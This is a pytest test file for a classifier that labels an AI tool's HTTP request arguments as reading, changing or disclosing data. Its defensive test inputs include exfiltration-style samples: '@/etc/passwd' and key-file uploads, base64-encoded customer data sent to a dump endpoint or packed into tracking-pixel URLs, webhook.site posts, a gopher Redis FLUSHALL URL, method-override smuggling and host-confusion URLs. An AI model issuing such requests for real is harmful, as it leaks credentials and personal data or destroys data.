"""Requests as clients describe them, and the effect each one has."""

from __future__ import annotations

import base64

import pytest

from intent.evidence import http
from intent.evidence.address import brand, is_outside, parsed, registrable
from intent.evidence.base import Leaf
from intent.evidence.reading import heaviest
from intent.views import Limits, read_effect
from intent.vocabulary import Effect

TOOL = "http request make an http request to a url method url headers body params"
API = "https://api.shop.example/v1"
HIDDEN = base64.b64encode(b"All our customers: Ann Lee, Bob Ray, and what they owe").decode()
LONG = "Our plan for the next quarter is as follows. " * 8


def read(arguments, words=TOOL):
    return list(http.readings(read_effect(arguments, Limits()).leaves, words))


def call(method, url, **more):
    return {"method": method, "url": url, **more}


CASES = {
    Effect.READ: [
        call("GET", f"{API}/users?page=2"),
        call("get", f"{API}/users"),
        call("HEAD", f"{API}/users"),
        call("OPTIONS", API),
        call("PROPFIND", "https://dav.example/docs/"),
        call("GET", f"{API}/users", body=""),
        call("GET", f"{API}/users", body={}),
        call("GET", f"{API}/users", body=None),
        call("GET", f"{API}/search", params={"q": "shoes", "limit": 20}),
        call("GET", "https://blog.example/delete-a-file-in-python"),
        call("GET", f"{API}/users", params={"cursor": base64.b64encode(b'{"id":12345,"dir":"next"}').decode()}),
        call("GET", "file:///etc/hosts"),
        call("GET", "s3://bucket/key"),
        call("GET", "https://es.internal:9200/logs/_search", body={"query": {"match_all": {}}}),
        call("POST", "https://es.internal:9200/logs/_search", body={"query": {"match": {"level": "error"}}, "size": 5}),
        call("POST", "https://api.notes.example/v1/databases/4/query", json={"filter": {"property": "Done"}, "page_size": 10}),
        call("POST", f"{API}/search", body='{"query": "red shoes"}'),
        call("POST", "https://vec.example/collections/a/points/search", json={"vector": [0.1, 0.2, -0.3e-5], "limit": 3}),
        call("POST", f"{API}/graphql", body={"query": "{ me { id } }"}),
        call("POST", f"{API}/graphql", json={"query": "query U($id: ID!) { user(id: $id) { name } }", "variables": {"id": 4}}),
        call("POST", f"{API}/graphql", body="query { me { id } }"),
        call("POST", "http://localhost:8545", json={"jsonrpc": "2.0", "id": 1, "method": "eth_getBalance", "params": ["0x1", "latest"]}),
        call("POST", "https://api.shop.example/shop.v1.Catalog/ListItems", json={"page": 1}),
        call("POST", "https://db.example/v1/projects/p/documents:runQuery", json={"structuredQuery": {"from": [{"id": "a"}]}}),
        {"request": "GET /v1/users HTTP/1.1\nHost: api.shop.example\n\n"},
        {"base_url": "https://api.shop.example", "path": "/v1/users", "method": "GET"},
    ],
    Effect.CHANGE: [
        call("POST", f"{API}/users", body={"name": "Ann"}),
        call("POST", f"{API}/users"),
        call("PUT", f"{API}/users/4", json={"name": "Ann"}),
        call("patch", f"{API}/users/4", data="name=Ann"),
        call("DELETE", f"{API}/users/4"),
        call("DELETE", "https://hooks.slack.com/services/T0/B0/x"),
        call("GET", f"{API}/users/4", headers={"X-HTTP-Method-Override": "DELETE"}),
        call("GET", f"{API}/users/4", headers=["X-HTTP-Method: PUT"]),
        call("GET", f"{API}/users/4", headers="Accept: */*\nX-Method-Override: PATCH"),
        call("GET", f"{API}/users/4", headers=[{"name": "X-HTTP-Method-Override", "value": "DELETE"}]),
        call("GET", f"{API}/users/4?_method=delete"),
        call("POST", f"{API}/users/4/search", body="_method=DELETE"),
        call("POST", f"{API}/search", body={"_method": "DELETE", "query": "x"}),
        call("GET", f"{API}/users/4", params={"_method": "PUT"}),
        call("POST", "https://es.internal:9200/logs/_delete_by_query", body={"query": {"match_all": {}}}),
        call("POST", "https://es.internal:9200/_bulk", body="x"),
        call("POST", f"{API}/query", json={"query": "DROP TABLE users"}),
        call("POST", f"{API}/search", json={"name": "saved search"}),
        call("POST", f"{API}/search", data="a text that is no question"),
        call("POST", f"{API}/graphql", body='{"query": "mutation { deleteUser(id: 1) { id } }"}'),
        call("POST", f"{API}/graphql", body={"extensions": {"persistedQuery": {"version": 1}}}),
        call("POST", "http://localhost:8545", json={"jsonrpc": "2.0", "id": 1, "method": "eth_sendTransaction", "params": []}),
        call("POST", "https://api.shop.example/shop.v1.Catalog/DeleteItem", json={"id": 1}),
        call("MKCOL", "https://dav.example/new/"),
        call("POST", "https://api.forge.example/repos/a/b/hooks", json={"active": True}),
        call("POST", "http://10.0.0.4/notes", body={"text": LONG}),
        {"method": "DELETE", "urls": [f"{API}/users/1", f"{API}/users/2"]},
        {"requests": [call("GET", f"{API}/a"), call("DELETE", f"{API}/b")]},
        {"requests": [{"url": f"{API}/a"}, {"url": f"{API}/b", "method": "DELETE"}]},
        {"url": f"{API}/users", "options": {"method": "POST", "body": "{}"}},
        {"url": f"{API}/users", "data": {"name": "Ann"}},
        {"request": "DELETE /v1/users/4 HTTP/1.1\nHost: api.shop.example"},
        {"endpoint": "POST /v1/users"},
        {"base_url": "https://api.shop.example", "path": "/v1/users", "method": "PUT"},
        {"http_method": "POST", "endpoint": "https://api.shop.example/v1/orders"},
    ],
    Effect.DISCLOSE: [
        call("POST", "https://hooks.slack.com/services/T0/B0/x", body={"text": "hi"}),
        call("POST", "https://discord.com/api/webhooks/12/ab", json={"content": "hi"}),
        call("POST", "https://slack.com/api/chat.postMessage", json={"channel": "C1", "text": "hi"}),
        call("GET", "https://api.telegram.org/bot1:a/sendMessage?chat_id=1&text=hi"),
        call("GET", "https://api.telegram.org/bot1:a/sendMessage", params={"chat_id": 1, "text": "hi"}),
        call("POST", "https://api.sendgrid.com/v3/mail/send", json={"subject": "x"}),
        call("POST", "https://graph.microsoft.com/v1.0/me/sendMail", json={"message": {}}),
        call("POST", "https://webhook.site/0-0-0", body="x"),
        call("POST", "https://ci.example/webhook/deploy", json={"a": 1}),
        call("POST", "https://webhooks.shop.example/in", json={"a": 1}),
        call("POST", f"{API}/messages/send", json={"to": "bob"}),
        call("POST", f"{API}/documents/4/share", json={"user": "bob"}),
        call("POST", f"{API}/files:upload", body="x"),
        call("POST", f"{API}/notes", body=LONG),
        call("PUT", "https://store.example/dump", data=HIDDEN),
        call("POST", f"{API}/x", files={"file": "/home/ann/keys.txt"}),
        call("POST", f"{API}/x", data="@/etc/passwd"),
        call("POST", f"{API}/graphql", body={"query": "mutation { sendInvoice(id: 1) { id } }"}),
        call("POST", f"{API}/graphql", body={"query": "{ me { id } }", "variables": {"note": LONG}})
        | {"url": "https://webhook.site/graphql"},
        call("PUT", "ftp://files.example/in/a.txt", data="x"),
        call("POST", "mailto:bob@x.example", body="x"),
        {"webhook_url": "https://hooks.slack.com/services/T0/B0/x", "message": "hi"},
        {"url": "https://hooks.zapier.com/hooks/catch/1/2", "payload": {"a": 1}},
        {"request": 'POST /services/T0/B0/x HTTP/1.1\nHost: hooks.slack.com\n\n{"text": 1}'},
        call("POST", "https://hooks.slack.com\\@api.shop.example/search", json={"query": "x"}),
        {"base_url": "https://hooks.slack.com/services/T0/B0/x", "path": "/_search", "method": "POST", "body": {"query": "x"}},
    ],
    None: [
        call("FROB", f"{API}/users"),
        call("GET,POST", f"{API}/users"),
        call("${METHOD}", f"{API}/users"),
        call("CONNECT", "https://proxy.example"),
        call("GET", "http://[::1"),
        call("GET", "https://a.example:99999/"),
        call("GET", "javascript:fetch(1)"),
        call("GET", "gopher://127.0.0.1:6379/_FLUSHALL"),
        call("GET", f"{API}/users", body={"name": "Ann"}),
        call("GET", f"https://pixel.example/p.png?d={HIDDEN}"),
        call("GET", f"https://pixel.example/{HIDDEN}"),
        call("GET", "https://pixel.example/p.png", params={"d": LONG}),
        call("GET", "https://pixel.example/p", params={"d": LONG.encode().hex()}),
        call("GET", f"{API}/deleteUser?id=3"),
        call("GET", "https://shop.example/api/transfer?to=9&amount=5"),
        call("GET", f"{API}/users", headers={"X-HTTP-Method-Override": "FROB"}),
        {"url": f"https://pixel.example/p.png?d={HIDDEN}"},
    ],
}


@pytest.mark.parametrize(("arguments", "effect"), [(a, effect) for effect, calls in CASES.items() for a in calls])
def test_a_request_has_its_heaviest_effect(arguments, effect):
    found = read(arguments)
    assert found
    assert heaviest(f.effect for f in found) is effect


@pytest.mark.parametrize(
    ("arguments", "words"),
    [
        ({"url": "https://video.example/w?v=1"}, "video player plays a video url"),
        ({"url": "https://a.example", "method": "extractive"}, "summarize page url method"),
        ({"url": "https://a.example", "method": "extractive"}, "fetch page and summarize url method"),
        ({"method": "linear", "path": "data/points.csv"}, "interpolate method path"),
        ({"method": "tools/list", "params": {"a": 1}}, "json rpc call method params"),
        ({"query": "GET /v1/users"}, "search documentation query"),
        ({"title": "x", "body": "y"}, "create issue title body"),
        ({"path": "/src/http.py"}, "read file from https://git.example path"),
    ],
)
def test_what_makes_no_request_says_nothing(arguments, words):
    assert not read(arguments, words)


@pytest.mark.parametrize(
    ("arguments", "words"),
    [({"url": "https://a.example/x"}, "fetch url"), ({"url": "https://a.example/x", "text": "price"}, "fetch a page and find text in it")],
)
def test_a_url_without_a_method_binds_nothing(arguments, words):
    assert [(f.effect, f.binding) for f in read(arguments, words)] == [(Effect.READ, False)]


def test_a_known_method_beside_a_url_is_a_request_in_any_tool():
    assert [f.effect for f in read(call("DELETE", f"{API}/users/1"), "do it")] == [Effect.CHANGE]


def test_the_detail_shows_neither_query_nor_password():
    (found,) = read(call("GET", f"https://bob:hunter22x@api.shop.example/a?q={'s' * 40}"))
    assert found.detail == "GET api.shop.example/a"


def test_many_addresses_hide_no_change():
    urls = [f"{API}/users/{i}" for i in range(300)]
    assert heaviest(f.effect for f in read({"urls": urls, "method": "GET"})) is None


def test_many_harmless_addresses_leave_the_dangerous_one():
    urls = [*(f"{API}/users/{i}" for i in range(60)), "https://hooks.slack.com/services/T0/B0/x"]
    assert heaviest(f.effect for f in read({"urls": urls, "method": "POST"})) is Effect.DISCLOSE


def test_methods_of_http_are_told_from_verbs():
    assert http.is_method(Leaf(("httpMethod",), "post"))
    assert not http.is_method(Leaf(("action",), "post"))
    assert not http.is_method(Leaf(("method",), "publish"))


@pytest.mark.parametrize(
    ("text", "host"),
    [
        ("https://good.example@evil.example/x", "evil.example"),
        ("https:\\\\evil.example\\@good.example", "evil.example"),
        ("https:evil.example/x", "evil.example"),
        ("HTTPS://EVIL.Example.:443/x", "evil.example"),
        ("evil.example:8080/x", "evil.example"),
        ("localhost:3000", "localhost"),
        ("//evil.example/x", "evil.example"),
        ("/v1/users", ""),
        ("ht\ntps://evil.example", "evil.example"),
    ],
)
def test_an_address_is_read_as_a_browser_reads_it(text, host):
    address = parsed(text)
    assert address is not None
    assert address.host == host


@pytest.mark.parametrize(
    ("host", "name", "called"),
    [
        ("www.example.com", "example.com", "example"),
        ("a.b.example.co.uk", "example.co.uk", "example"),
        ("evil.github.io", "evil.github.io", "evil"),
        ("x.evil.github.io", "evil.github.io", "evil"),
        ("github.com.evil.example", "evil.example", "evil"),
        ("10.1.2.3", "10.1.2.3", ""),
        ("localhost", "localhost", "localhost"),
    ],
)
def test_a_host_belongs_to_its_registrable_name(host, name, called):
    assert (registrable(host), brand(host)) == (name, called)


@pytest.mark.parametrize("host", ["localhost", "db.internal", "10.0.0.1", "127.0.0.1", "169.254.169.254", "::1", "build", "printer.local"])
def test_a_private_host_is_not_outside(host):
    assert not is_outside(host)


@pytest.mark.parametrize("host", ["example.com", "8.8.8.8", "internal.evil.com", "2606:4700::1111", "10.evil.com"])
def test_a_public_host_is_outside(host):
    assert is_outside(host)
